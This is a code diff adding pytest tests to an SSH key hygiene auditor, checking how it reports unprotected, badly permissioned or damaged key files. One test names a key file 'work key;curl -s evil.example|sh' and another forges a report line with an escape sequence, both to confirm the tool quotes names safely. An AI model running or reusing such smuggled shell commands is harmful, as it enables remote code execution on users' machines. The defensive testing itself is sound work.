@@ -265,5 +265,158 @@ def test_putty_keys_made_by_puttygen(
     ]
     if bits:
         argv += ["-b", str(bits)]
-    subprocess.run(argv, check=True, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
+    subprocess.run(
+        argv,
+        check=True,
+        capture_output=True,
+        timeout=60,
+        stdin=subprocess.DEVNULL,
+        env=machine.env(),
+    )
     assert reasons(audit(hygiene)).get("~/.ssh/work.ppk", set()) == expected
+
+
+# Keys a first version missed, found in review: each must be reported.
+
+
+def test_puttygen_key_with_a_non_ascii_comment(
+    machine: Machine, hygiene: Callable[..., Outcome]
+) -> None:
+    puttygen = require_tool("puttygen")
+    subprocess.run(
+        [
+            puttygen,
+            "-t",
+            "ed25519",
+            "-C",
+            "clé de travail",
+            "-o",
+            str(machine.ssh / "p.ppk"),
+            "--new-passphrase",
+            "/dev/null",
+        ],
+        check=True,
+        capture_output=True,
+        timeout=60,
+        stdin=subprocess.DEVNULL,
+        env=machine.env(),
+    )
+    assert reasons(audit(hygiene)) == {"~/.ssh/p.ppk": {"no passphrase"}}
+
+
+@pytest.mark.parametrize(
+    "preamble",
+    [b"Bag Attributes\n    localKeyID: 01 02\n", b"\xef\xbb\xbf", b"\n", b"\r\n\r\n"],
+    ids=["bag-attributes", "byte-order-mark", "blank-line", "crlf-lines"],
+)
+def test_key_after_a_preamble(
+    machine: Machine,
+    make_key: Callable[..., Path],
+    hygiene: Callable[..., Outcome],
+    tmp_path: Path,
+    preamble: bytes,
+) -> None:
+    key = make_key(tmp_path / "k8", "rsa", bits=2048, fmt="PKCS8")
+    (machine.ssh / "bundle.pem").write_bytes(preamble + key.read_bytes())
+    (machine.ssh / "bundle.pem").chmod(0o600)
+    assert reasons(audit(hygiene)) == {"~/.ssh/bundle.pem": {"no passphrase"}}
+
+
+def test_openssl_ec_key_after_its_parameters(
+    machine: Machine, hygiene: Callable[..., Outcome]
+) -> None:
+    openssl = require_tool("openssl")
+    subprocess.run(
+        [openssl, "ecparam", "-genkey", "-name", "prime256v1", "-out", str(machine.ssh / "ec.pem")],
+        check=True,
+        capture_output=True,
+        timeout=60,
+    )
+    assert (machine.ssh / "ec.pem").read_text().startswith("-----BEGIN EC PARAMETERS-----")
+    result = audit(hygiene)
+    assert reasons(result) == {"~/.ssh/ec.pem": {"no passphrase"}}
+    assert result["findings"][0]["evidence"]["bits"] == 256
+
+
+def test_key_followed_by_padding(
+    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
+) -> None:
+    key = make_key(machine.ssh / "id_ed25519")
+    with key.open("a") as handle:
+        handle.write("\n" * 70_000)
+    assert reasons(audit(hygiene)) == {"~/.ssh/id_ed25519": {"no passphrase"}}
+
+
+@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
+def test_a_strange_pub_file_does_not_sink_the_check(
+    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome], kind: str
+) -> None:
+    make_key(machine.ssh / "id_enc", "rsa", bits=1024, passphrase="correct horse", fmt="PEM")
+    make_key(machine.ssh / "id_plain")
+    pub = machine.ssh / "id_enc.pub"
+    pub.unlink()
+    if kind == "fifo":
+        os.mkfifo(pub)
+    else:
+        pub.symlink_to("/dev/zero")
+    result = audit(hygiene)
+    assert result["status"] == "fail"
+    # The size of the encrypted key is unknown without its .pub; the plain key is reported.
+    assert reasons(result) == {"~/.ssh/id_plain": {"no passphrase"}}
+
+
+def test_junk_that_looks_like_a_key_is_a_note(
+    machine: Machine, hygiene: Callable[..., Outcome]
+) -> None:
+    (machine.ssh / "junk").write_text(
+        "-----BEGIN PRIVATE KEY-----\nMIIBAAAAAAAAAAAAAAAAAAAA\n-----END PRIVATE KEY-----\n"
+    )
+    result = audit(hygiene)
+    assert result["status"] == "pass"
+    assert result["notes"] == [
+        "~/.ssh/junk could not be checked: it looks like a private key but its contents are "
+        "damaged."
+    ]
+
+
+def test_names_cannot_forge_report_lines_or_commands(
+    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
+) -> None:
+    forged = machine.ssh / "x\nPASS    ssh_keys  -        all good\x1b[2K"
+    make_key(forged)
+    injected = make_key(machine.ssh / "work key;curl -s evil.example|sh")
+    injected.chmod(0o644)
+    table = hygiene("check").out
+    assert "\x1b" not in table
+    assert not any(line.startswith("PASS") for line in table.splitlines())
+    assert "~/.ssh/x\\nPASS    ssh_keys  -        all good\\x1b[2K" in table
+    advice = {
+        f["evidence"]["reason"]: f["advice"]
+        for f in audit(hygiene)["findings"]
+        if "work key" in f["subject"]
+    }
+    assert (
+        advice["readable by others"] == "Run: chmod 600 ~/'.ssh/work key;curl -s evil.example|sh'"
+    )
+
+
+def test_an_unreadable_ssh_folder_is_an_error_not_a_pass(
+    machine: Machine, hygiene: Callable[..., Outcome]
+) -> None:
+    (machine.home / ".ssh").symlink_to(machine.home / ".ssh")
+    outcome = hygiene("check", "--json")
+    assert outcome.code == 1
+    result = json.loads(outcome.out)["results"][0]
+    assert result["status"] == "error"
+    assert result["error"] == "~/.ssh could not be read: it is a symbolic link loop"
+
+
+def test_missing_extra_path_is_a_note(machine: Machine, hygiene: Callable[..., Outcome]) -> None:
+    (machine.user_policies / "keys.yaml").write_text(
+        "schema: 1\nchecks:\n  ssh_keys: {extra_paths: [~/gone, ~/loop]}\n"
+    )
+    (machine.home / "loop").symlink_to(machine.home / "loop")
+    assert audit(hygiene)["notes"] == [
+        "~/gone could not be checked: it does not exist.",
+        "~/loop could not be checked: it is a symbolic link loop.",
+    ]
